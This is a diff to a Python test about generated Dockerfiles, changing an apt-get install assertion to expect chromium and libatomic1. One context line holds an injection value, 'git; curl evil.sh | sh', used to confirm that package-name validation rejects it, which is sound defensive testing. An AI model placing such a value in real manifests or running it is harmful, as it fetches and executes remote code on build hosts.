@@ -182,6 +182,6 @@ def test_a_space_image_installs_the_debian_packages_its_envs_name(tmp_path):
     env_bundle(ROOT / "envs" / "browsergym_env", tmp_path / "browser")
     install = [line for line in (tmp_path / "browser" / "Dockerfile").read_text().splitlines()
                if "apt-get install" in line]  # fmt: skip
-    assert install and install[0].split()[-2] == "chromium"
+    assert install and {"chromium", "libatomic1"} <= set(install[0].split())
     with pytest.raises(ValueError, match="not a Debian package name"):
         Manifest(name="x", apt=["git; curl evil.sh | sh"])
